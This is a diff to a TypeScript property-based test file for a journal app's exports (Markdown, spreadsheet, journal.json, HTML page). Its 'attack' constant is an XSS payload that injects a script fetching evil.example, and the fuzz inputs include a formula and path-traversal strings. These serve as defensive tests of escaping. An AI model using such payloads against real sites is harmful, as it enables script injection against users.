@@ -4,7 +4,8 @@ import { stringify } from 'csv-stringify/sync';
 import fc from 'fast-check';
 import { describe, expect, test } from 'vitest';
 import { parse as parseYaml } from 'yaml';
-import { type ExportRow, exportRowOf } from './exported-row.ts';
+import { type ExportedFields, exportedRow } from '../../../tests/support/exported-row.ts';
+import { type ExportRow, exportRowOf, FIELD_END, NULL, TAG_END } from './exported-row.ts';
 import { journalItemOf, journalJson } from './journal-json.ts';
 import { isoOf, localTimeOf } from './local-time.ts';
 import { markdownOf, markdownPath } from './markdown.ts';
@@ -20,29 +21,24 @@ const fields = {
   at,
   time_zone: 'Europe/Zurich',
   tags: ['tram', 'été'],
-  location: 'Tram 11' as string | null,
+  location: 'Tram 11',
   lat: -33.8688,
   lng: 151.2093,
-  address: null as string | null,
-  connected_to: null as string | null,
-  same_here: false,
+  channel: 'web',
   created_at: Date.UTC(2026, 2, 3, 8),
   updated_at: Date.UTC(2026, 2, 4, 8),
-  channel: 'web',
-  operation_kind: null as string | null,
-  parent_at: null as number | null,
-  parent_zone: null as string | null,
-  parent_text: null as string | null,
 };
-const rowOf = (changes: Partial<typeof fields> = {}) => exportRowOf(JSON.stringify({ ...fields, ...changes }));
+const rowOf = (changes: ExportedFields = {}) => exportRowOf(exportedRow({ ...fields, ...changes }));
 const row = rowOf();
 const attack = `</p></style></script><script>fetch('https://evil.example')</script><img src=x onerror="alert(1)">"'&--!>`;
-const figures = { anecdotes: 1, first: new Date(at), last: new Date(at), bytes: 1 };
+const figures = { anecdotes: 1, first: new Date(at), last: new Date(at) };
 
 const anyText = fc.oneof(
-  fc.string({ unit: 'binary' }),
+  fc.string({ unit: 'binary' }).filter((text) => ![FIELD_END, TAG_END, NULL].some((sign) => text.includes(sign))),
   fc.constantFrom('', '---', '[[x]]', '../..', 'CON', 'a\nb: c', 'a\r\nb', '"a","b"', '=1+1', attack),
 );
+
+const anyTag = anyText.filter((text) => text !== '');
 
 const sheetOf = (...rows: readonly ExportRow[]) => spreadsheet.begin() + rows.map(spreadsheet.row).join('');
 
@@ -73,12 +69,12 @@ describe('a Markdown file', () => {
     const text = markdownOf(rowOf({ ...child, parent_text: row.description }));
     const name = /\[\[(.+)\]\]/.exec(text)?.[1];
     expect(markdownPath(row)).toBe(`2026/${name}.md`);
-    expect(markdownOf(rowOf(child))).not.toContain('[[');
+    expect(markdownOf(rowOf({ id: child.id, connected_to: id }))).not.toContain('[[');
   });
 
   test('has front matter that reads back as it was, a name that every file system takes, and no link but its own', () => {
     fc.assert(
-      fc.property(anyText, fc.array(anyText), anyText, (description, tags, location) => {
+      fc.property(anyText, fc.array(anyTag), anyText, (description, tags, location) => {
         const odd = rowOf({ description, tags, location });
         expect(markdownPath(odd)).toMatch(/^\d{4}\/[^\\/:*?"<>|#^[\]\p{Cc}]{1,200}\.md$/u);
         const [, matter = ''] = /^---\n([\s\S]*?)\n---\n/.exec(markdownOf(odd)) ?? [];
@@ -124,7 +120,7 @@ describe('the table', () => {
 const anyRow = fc
   .record({
     description: anyText,
-    tags: fc.array(anyText),
+    tags: fc.array(anyTag),
     location: fc.option(anyText),
     address: fc.option(anyText),
     lat: fc.double({ min: -90, max: 90, noNaN: true }),
@@ -158,13 +154,13 @@ test('an anecdote in journal.json is the JSON of what the contract says', () => 
     fc.property(anyRow, (row) => {
       const { description, tags, time_zone, location, lat, lng, address, connected_to, same_here } = row;
       const anecdote: JournalAnecdote = {
-        ...{ id, description, tags, timestamp: new Date(row.at).toISOString(), time_zone, location },
+        ...{ id, description, tags, timestamp: row.iso.at, time_zone, location },
         coordinates: lat === null || lng === null ? null : { lat, lng, address },
         connected_to,
         same_here,
         recorded: {
-          created_at: new Date(row.created_at).toISOString(),
-          updated_at: new Date(row.updated_at).toISOString(),
+          created_at: row.iso.created,
+          updated_at: row.iso.updated,
           channel: 'web',
           operation: row.operation_kind,
         },
@@ -178,7 +174,8 @@ test('an anecdote in journal.json is the JSON of what the contract says', () => 
 describe('the page', () => {
   test('asks for nothing, and runs nothing but its own script, whatever the anecdotes say', async () => {
     const hostile = { description: attack, tags: [attack], location: attack };
-    const child = { ...hostile, id: id.replace('ab', 'cd'), connected_to: id, parent_text: attack };
+    const parent = { connected_to: id, parent_at: at, parent_zone: 'UTC', parent_text: attack };
+    const child = { ...hostile, ...parent, id: id.replace('ab', 'cd') };
     const html = pageOf(figures, rowOf(hostile), rowOf(child));
     expect(html.match(/<script/g)).toHaveLength(1);
     expect(html.match(/<style/g)).toHaveLength(1);
